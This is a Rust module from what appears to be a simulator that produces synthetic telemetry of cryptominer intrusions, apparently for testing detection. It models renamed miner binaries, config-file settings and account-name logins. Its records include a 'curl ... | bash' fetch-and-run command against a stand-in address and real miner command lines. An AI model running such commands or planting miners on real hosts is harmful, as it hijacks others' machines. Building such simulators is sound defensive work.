//! What a miner's host starts.

use super::Start;
use crate::simulate::{coin::Coin, dice::Dice, estate::Estate, evasion::Evasion, scenario::Plan};

/// How an account's miner is started.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(in crate::simulate) struct Manner {
    /// The program has another name.
    pub(in crate::simulate) renamed: bool,
    /// Its settings stand in a file.
    pub(in crate::simulate) from_file: bool,
    /// It logs in with an account's name, not with a wallet.
    pub(in crate::simulate) no_wallet: bool,
}

/// Shares of accounts whose miner is started with everything on the command line, and of those where
/// at least the name is another; the rest has another name and a file. Assumptions: reports of
/// incidents show all three, and nobody counted them.
const OPENLY: f64 = 0.5;
const RENAMED: f64 = 0.2;
/// Well formed, made for this purpose, and nobody's.
const WALLET: &str = "423hc6hfLue3NmGmWLdSKAA6LSYS1Hx5vGoucKMeUp4GPXUn6AmcqAgWF3wNDGDBtkcxaufGT47zYjWTQRPJEMuJ5J5jov3";

/// How the miner of a plan is started: as its evasions say, else as drawn.
pub(in crate::simulate) fn manner(plan: &Plan, dice: &mut Dice) -> Manner {
    let has = |evasion: Evasion| plan.evasions.contains(&evasion);
    let drawn = dice.unit();
    Manner {
        renamed: has(Evasion::Renamed) || drawn >= OPENLY,
        from_file: has(Evasion::ConfigFile) || drawn >= OPENLY + RENAMED,
        no_wallet: has(Evasion::NoWallet),
    }
}

/// Lets a host fetch and start its miner; `pool` is what it is told, with the port.
pub(in crate::simulate) fn mine(
    estate: &mut Estate,
    host: usize,
    second: f64,
    (coin, manner): (Coin, Manner),
    (pool, tls): (&str, bool),
) {
    let (path, name) = if manner.renamed {
        ("/usr/local/lib/.cache/kworkerd".to_owned(), "kworkerd")
    } else {
        let name = program(coin);
        (format!("/opt/{name}/{name}"), name)
    };
    let arguments = if manner.from_file {
        "-c /etc/defaults.json".to_owned()
    } else {
        arguments(coin, manner, pool, tls)
    };
    let mut push = |second: f64, path: &str, command: String, parent: &str| {
        let (path, parent) = (path.to_owned(), parent.to_owned());
        estate.starts.push(Start { second, host, path, command, parent, user: "root" });
    };
    let shell = "/bin/bash -c curl -fsSL http://198.18.0.9/i.sh | bash";
    push(second, "/usr/bin/chmod", format!("chmod +x {path}"), shell);
    if coin == Coin::Xmr {
        push(second + 1.0, "/usr/sbin/sysctl", "sysctl -w vm.nr_hugepages=1280".to_owned(), shell);
    }
    push(second + 2.0, &path, format!("{name} {arguments}"), shell);
}

/// The usual program for a coin.
const fn program(coin: Coin) -> &'static str {
    match coin {
        Coin::Xmr => "xmrig",
        Coin::Btc | Coin::Ltc => "cgminer",
        Coin::Etc | Coin::Rvn => "t-rex",
    }
}

fn arguments(coin: Coin, manner: Manner, pool: &str, tls: bool) -> String {
    let user = if manner.no_wallet || coin != Coin::Xmr { "alice.rig7" } else { WALLET };
    let scheme = if tls { "stratum+ssl" } else { "stratum+tcp" };
    match coin {
        Coin::Xmr => {
            let tls = if tls { " --tls" } else { "" };
            format!("-o {pool} -u {user} -p x -k{tls} --donate-level=1 -B")
        }
        Coin::Btc => format!("-o {scheme}://{pool} -u {user} -p x"),
        Coin::Ltc => format!("--scrypt -o {scheme}://{pool} -u {user} -p x"),
        Coin::Etc => format!("-a etchash -o {scheme}://{pool} -u {user} -p x -w r1"),
        Coin::Rvn => format!("-a kawpow -o {scheme}://{pool} -u {user} -p x -w r1"),
    }
}

#[cfg(test)]
mod tests {
    use firedamp_core::id::Provider;

    use super::*;
    use crate::simulate::Scenario;

    fn drawn(evasions: Vec<Evasion>) -> Vec<Manner> {
        let (scenario, cloud) = (Scenario::Plain, Provider::Aws);
        let plan = Plan { scenario, cloud, evasions, coin: None, hosts: 1 };
        (0..1000).map(|number| manner(&plan, &mut Dice::new(1, "manner", &[number]))).collect()
    }

    #[test]
    fn half_of_all_miners_are_started_openly_and_evasions_are_never_left_out() {
        let openly = drawn(Vec::new()).iter().filter(|manner| !manner.renamed).count();
        assert!((450..=550).contains(&openly), "{openly}");
        let hidden = drawn(vec![Evasion::Renamed, Evasion::ConfigFile, Evasion::NoWallet]);
        assert!(hidden.iter().all(|manner| manner.renamed && manner.from_file && manner.no_wallet));
    }
}
